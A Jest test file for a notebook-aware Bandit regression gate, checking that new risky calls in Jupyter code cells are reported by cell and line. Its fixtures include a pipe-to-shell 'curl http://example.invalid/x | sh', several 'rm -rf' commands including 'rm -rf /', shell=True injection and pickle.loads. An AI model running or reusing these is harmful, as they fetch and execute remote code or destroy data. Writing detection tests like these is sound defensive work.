import { afterAll, describe, test } from "@jest/globals";
import assert from "node:assert/strict";
import { TempRepo, checkJson, runCli } from "../helpers/repo.js";

// Changed notebooks are judged by their code cells: findings are mapped back to the cell and the
// line in it, a re-save does not cry wolf, and a notebook the gate cannot read fails the run.

interface Cell {
  cell_type: "code" | "markdown" | "raw";
  source: string[] | string;
  metadata: Record<string, unknown>;
  outputs?: unknown[];
  execution_count?: number | null;
}

const code = (...lines: string[]): Cell => ({
  cell_type: "code",
  source: lines.map((l, i) => (i < lines.length - 1 ? `${l}\n` : l)),
  metadata: {},
  outputs: [],
  execution_count: null,
});
const markdown = (text: string): Cell => ({ cell_type: "markdown", source: [text], metadata: {} });

function notebook(cells: Cell[], indent = 1): string {
  return `${JSON.stringify({ cells, metadata: { kernelspec: { name: "python3", language: "python" } }, nbformat: 4, nbformat_minor: 5 }, null, indent)}\n`;
}

const IMPORTS = code("import subprocess", "import pickle");
const LOAD = code("def load(blob):", "    return pickle.loads(blob)");
const PLOT = code("total = sum(range(10))", "print(total)");
const RISKY = code("cmd = 'ls ' + total", "subprocess.run(cmd, shell=True)");

const repos: TempRepo[] = [];
afterAll(() => repos.forEach((r) => r.dispose()));

/** A repository whose main branch has `analysis.ipynb`, on a new agent branch. */
function project(cells: Cell[]): TempRepo {
  const repo = new TempRepo();
  repos.push(repo);
  repo.write("app/tasks.py", "def greet(name):\n    return 'hello ' + name\n");
  repo.write("analysis.ipynb", notebook(cells));
  repo.commit("main");
  repo.git("checkout", "-q", "-b", "agent/work");
  return repo;
}

describe("notebooks", () => {
  test("a new shell=True call in a new cell is a regression named by cell and line", async () => {
    const repo = project([markdown("# Analysis"), IMPORTS, PLOT]);
    repo.write("analysis.ipynb", notebook([markdown("# Analysis"), IMPORTS, PLOT, markdown("Now run it"), RISKY]));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    const b602 = report.regressions.find((r) => r.test_id === "B602");
    assert.ok(b602, JSON.stringify(report.regressions));
    assert.equal(b602.path, "analysis.ipynb");
    assert.equal(b602.cell, 5);
    assert.equal(b602.cell_line, 2);
    assert.deepEqual(report.scanned.files, ["analysis.ipynb"]);
    // Imports were there before: not regressions.
    assert.ok(!report.regressions.some((r) => r.test_id === "B404" || r.test_id === "B403"), JSON.stringify(report.regressions));
    const text = await runCli(repo.dir, ["check", "--base", "main"]);
    assert.match(text.stdout, /analysis\.ipynb\n\s+cell 5, line 2\s+B602/);
    const markdownReport = await runCli(repo.dir, ["check", "--base", "main", "--format", "markdown"]);
    assert.match(markdownReport.stdout, /`analysis\.ipynb \(cell 5, line 2\)`/);
  });

  test("a re-save with other indentation, outputs cleared and cells reordered keeps old findings unchanged", async () => {
    const withOutputs = { ...LOAD, outputs: [{ output_type: "stream", name: "stdout", text: ["ok\n"] }], execution_count: 3 };
    const repo = project([IMPORTS, withOutputs, PLOT]);
    // Re-saved by another editor: two-space JSON, one string per source, cells moved, outputs gone.
    const asString = (c: Cell): Cell => ({ ...c, source: (c.source as string[]).join(""), outputs: [], execution_count: null });
    repo.write("analysis.ipynb", notebook([asString(PLOT), asString(IMPORTS), markdown("notes"), asString(LOAD)], 2));
    repo.commit("agent: re-save");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.equal(report.regressions.length, 0);
    assert.ok(report.unchanged >= 3, JSON.stringify(report));
    assert.equal(report.fixed.length, 0, JSON.stringify(report.fixed));
  });

  test("a copy of an existing risky call added to another cell is still new", async () => {
    const repo = project([IMPORTS, PLOT, RISKY]);
    repo.write("analysis.ipynb", notebook([IMPORTS, PLOT, RISKY, code("subprocess.run('rm -rf ' + total, shell=True)")]));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    const added = report.regressions.filter((r) => r.test_id === "B602");
    assert.equal(added.length, 1, JSON.stringify(report.regressions));
    assert.equal(added[0]?.cell, 4);
    assert.equal(added[0]?.cell_line, 1);
  });

  test("magics and shell escapes are left out with their line numbers kept, and named in a note", async () => {
    const repo = project([IMPORTS, PLOT]);
    repo.write(
      "analysis.ipynb",
      notebook([
        code("%matplotlib inline", "import subprocess", "import pickle"),
        code("%%bash", "curl http://example.invalid/x | sh"),
        code("!rm -rf build", "for name in ['a']:", "    !echo {name}", "data = pickle.loads(b'')"),
        PLOT,
      ]),
    );
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    // Only the pickle call is new; its line in cell 3 is counted with the shell lines in place.
    assert.deepEqual(report.regressions.map((r) => [r.test_id, r.cell, r.cell_line]), [["B301", 3, 4]]);
    assert.equal(report.scan_errors.length, 0, JSON.stringify(report.scan_errors));
    const note = report.notes.find((n) => n.startsWith("Notebook analysis.ipynb"));
    assert.ok(note, report.notes.join("\n"));
    assert.match(note, /4 shell command line\(s\) that Bandit does not judge/);
    assert.match(note, /cell 3, line 1: `!rm -rf build`/);
    assert.match(note, /1 IPython magic line\(s\)/);
  });

  test("code hidden under %%capture or %time is still judged", async () => {
    const repo = project([IMPORTS, PLOT]);
    repo.write("analysis.ipynb", notebook([IMPORTS, PLOT, code("%%capture", "subprocess.run(cmd, shell=True)"), code("%time pickle.loads(b'')")]));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    assert.deepEqual(
      report.regressions.map((r) => [r.test_id, r.cell, r.cell_line]).sort(),
      [
        ["B301", 4, 1],
        ["B602", 3, 2],
      ],
    );
  });

  test("a notebook that is not valid JSON is a scan failure (exit 3) naming it, never a pass", async () => {
    const repo = project([IMPORTS, PLOT]);
    repo.write("analysis.ipynb", notebook([IMPORTS, PLOT]).slice(0, 40));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 3, JSON.stringify(report));
    assert.equal(report.scan_errors[0]?.path, "analysis.ipynb");
    assert.match(report.scan_errors[0]?.reason ?? "", /not valid JSON/);
  });

  test("an nbformat 3 notebook is a scan failure that says which formats are read", async () => {
    const repo = project([PLOT]);
    repo.write("old.ipynb", JSON.stringify({ nbformat: 3, nbformat_minor: 0, worksheets: [{ cells: [{ cell_type: "code", input: "import os\nos.system('x')" }] }] }));
    repo.commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 3, JSON.stringify(report));
    assert.deepEqual(report.scan_errors.map((f) => f.path), ["old.ipynb"]);
    assert.match(report.scan_errors[0]?.reason ?? "", /nbformat 3 is not supported/);
  });

  test("a renamed notebook keeps its findings; a new finding in it is still caught", async () => {
    const repo = project([IMPORTS, LOAD, PLOT]);
    repo.move("analysis.ipynb", "notebooks/explore.ipynb").commit("agent: move");
    const moved = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(moved.code, 0, JSON.stringify(moved.report));
    assert.equal(moved.report.regressions.length, 0);
    repo.write("notebooks/explore.ipynb", notebook([IMPORTS, LOAD, PLOT, RISKY])).commit("agent: run");
    const changed = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(changed.code, 1, JSON.stringify(changed.report));
    assert.deepEqual(changed.report.regressions.map((r) => [r.path, r.test_id, r.cell]), [["notebooks/explore.ipynb", "B602", 4]]);
  });

  test("an untracked notebook in the working tree is judged without writing into the working tree", async () => {
    const repo = project([PLOT]);
    repo.write("scratch.ipynb", notebook([IMPORTS, RISKY]));
    const before = repo.git("status", "--porcelain", "--untracked-files=all");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 1, JSON.stringify(report));
    assert.ok(report.regressions.some((r) => r.path === "scratch.ipynb" && r.test_id === "B602" && r.cell === 2));
    assert.equal(repo.git("status", "--porcelain", "--untracked-files=all"), before);
    assert.match(repo.read("scratch.ipynb"), /"nbformat": 4/);
  });

  test("--no-notebooks lists changed notebooks as not scanned", async () => {
    const repo = project([PLOT]);
    repo.write("analysis.ipynb", notebook([IMPORTS, RISKY])).commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main", "--no-notebooks"]);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.ok(report.notes.some((n) => n.includes("analysis.ipynb (notebook)")), report.notes.join("\n"));
  });

  test("an R notebook is not Python: noted, not scanned, not a failure", async () => {
    const repo = project([PLOT]);
    const r = JSON.stringify({ cells: [code("system('rm -rf /')")], metadata: { kernelspec: { name: "ir", language: "R" } }, nbformat: 4, nbformat_minor: 5 });
    repo.write("stats.ipynb", r).commit("agent");
    const { code: exit, report } = await checkJson(repo.dir, ["--base", "main"]);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.ok(report.notes.some((n) => n.includes("stats.ipynb is a notebook in R")), report.notes.join("\n"));
  });
});

describe("notebooks against a baseline file", () => {
  const FILE = ".bandit-baseline.json";
  /** main holds the notebook and a baseline file made from it; the agent branch starts there. */
  async function withBaselineFile(cells: Cell[], args: string[] = []): Promise<TempRepo> {
    const repo = project(cells);
    const made = await runCli(repo.dir, ["baseline", "--output", FILE, ...args]);
    assert.equal(made.code, 0, made.stderr);
    repo.commit("baseline file");
    return repo;
  }
  const gate = (repo: TempRepo, args: string[] = []) => checkJson(repo.dir, ["--baseline", FILE, ...args]);

  test("the baseline file stores the notebook's findings by identity, with cell and line, never its source", async () => {
    const repo = await withBaselineFile([markdown("# Analysis"), IMPORTS, LOAD]);
    const stored = JSON.parse(repo.read(FILE));
    assert.equal(stored.schema_version, 3);
    assert.equal(stored.notebooks, true);
    const findings = stored.files["analysis.ipynb"]?.findings as Array<{ test_id: string; cells?: Array<{ cell: number; line: number }> }>;
    assert.deepEqual(findings.map((f) => f.test_id).sort(), ["B301", "B403", "B404"]);
    assert.deepEqual(findings.find((f) => f.test_id === "B301")?.cells, [{ cell: 3, line: 2 }]);
    assert.ok(!repo.read(FILE).includes("pickle.loads"));
  });

  test("a finding the baseline file holds is not new; a new cell with shell=True is a regression named by cell and line", async () => {
    const repo = await withBaselineFile([markdown("# Analysis"), IMPORTS, LOAD, PLOT]);
    repo.write("analysis.ipynb", notebook([markdown("# Analysis"), IMPORTS, LOAD, PLOT, markdown("Now run it"), RISKY])).commit("agent");
    const { code: exit, report } = await gate(repo);
    assert.equal(exit, 1, JSON.stringify(report));
    assert.deepEqual(report.regressions.map((r) => [r.test_id, r.path, r.cell, r.cell_line]), [["B602", "analysis.ipynb", 6, 2]]);
    assert.ok(!report.notes.some((n) => n.includes("were not judged")), report.notes.join("\n"));
  });

  test("re-saving the notebook with other JSON indentation, or moving its cells down, does not cry wolf", async () => {
    const repo = await withBaselineFile([IMPORTS, LOAD]);
    repo.write("analysis.ipynb", notebook([markdown("# Moved down"), PLOT, IMPORTS, LOAD], 4)).commit("agent");
    const { code: exit, report } = await gate(repo);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.deepEqual(report.scanned.files, ["analysis.ipynb"], "rescanned: its JSON changed");
    assert.equal(report.counts.fixed, 0);
    assert.ok(report.counts.unchanged >= 2, JSON.stringify(report.counts));
  });

  test("an adversarial branch copies a baselined call into a second cell: the copy is new", async () => {
    const repo = await withBaselineFile([IMPORTS, LOAD]);
    repo.write("analysis.ipynb", notebook([IMPORTS, LOAD, code("def load_again(blob):", "    return pickle.loads(blob)")])).commit("agent");
    const { code: exit, report } = await gate(repo);
    assert.equal(exit, 1, JSON.stringify(report));
    assert.deepEqual(report.regressions.map((r) => [r.test_id, r.cell]), [["B301", 3]]);
  });

  test("a new notebook is judged whole, and a deleted one's findings are fixed", async () => {
    const repo = await withBaselineFile([IMPORTS, LOAD]);
    repo.git("rm", "-q", "analysis.ipynb");
    repo.write("fresh.ipynb", notebook([IMPORTS, RISKY])).commit("agent");
    const { code: exit, report } = await gate(repo);
    assert.equal(exit, 1, JSON.stringify(report));
    assert.ok(report.regressions.some((r) => r.test_id === "B602" && r.path === "fresh.ipynb" && r.cell === 2), JSON.stringify(report.regressions));
    assert.ok(report.fixed.some((f) => f.path === "analysis.ipynb"), JSON.stringify(report.fixed));
  });

  test("an older baseline file (schema_version 2, no notebooks) gives the note to regenerate it, not regressions", async () => {
    const repo = await withBaselineFile([PLOT]);
    const stored = JSON.parse(repo.read(FILE));
    delete stored.notebooks;
    delete stored.files["analysis.ipynb"];
    repo.write(FILE, `${JSON.stringify({ ...stored, schema_version: 2 }, null, 2)}\n`).commit("baseline file of an older bandit-gate");
    repo.write("analysis.ipynb", notebook([IMPORTS, RISKY])).commit("agent");
    const { code: exit, report } = await gate(repo);
    assert.equal(exit, 0, JSON.stringify(report));
    assert.equal(report.regressions.length, 0);
    const note = report.notes.find((n) => n.includes("notebook(s)"));
    assert.ok(note?.includes("analysis.ipynb") && note.includes("were not judged") && note.includes(`bandit-gate baseline --output ${FILE}`), report.notes.join("\n"));
  });

  test("a baseline file made with --no-notebooks gives the same note; a run with --no-notebooks does not call stored notebook findings fixed", async () => {
    const without = await withBaselineFile([PLOT], ["--no-notebooks"]);
    assert.equal(JSON.parse(without.read(FILE)).notebooks, false);
    without.write("analysis.ipynb", notebook([IMPORTS, RISKY])).commit("agent");
    const first = await gate(without);
    assert.equal(first.code, 0, JSON.stringify(first.report));
    assert.ok(first.report.notes.some((n) => n.includes("holds no notebooks")), first.report.notes.join("\n"));

    const withNotebooks = await withBaselineFile([IMPORTS, LOAD]);
    withNotebooks.write("app/tasks.py", "def greet(name):\n    return 'hi ' + name\n").commit("agent");
    const second = await gate(withNotebooks, ["--no-notebooks"]);
    assert.equal(second.code, 0, JSON.stringify(second.report));
    assert.equal(second.report.counts.fixed, 0, JSON.stringify(second.report.fixed));
    assert.ok(second.report.notes.some((n) => n.includes("notebooks are off")), second.report.notes.join("\n"));
  });
});
